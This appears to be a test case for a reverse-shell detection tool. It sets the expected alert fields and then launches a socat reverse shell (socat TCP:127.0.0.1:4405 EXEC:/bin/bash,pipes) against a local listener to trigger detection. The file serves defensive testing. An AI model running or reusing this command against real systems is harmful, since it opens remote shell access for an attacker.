# R05: socat with pipes
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $socat
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4405
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
peer 4405
#: act
. lib/peers.sh
act
socat TCP:127.0.0.1:4405 EXEC:/bin/bash,pipes > /dev/null 2>&1 & fact socat $!
who shell /bin/bash
await 'at $shell 0 pipe:* && at $shell 1 pipe:* && ! same $shell 0 $shell 1 && at $socat 5 socket:*'
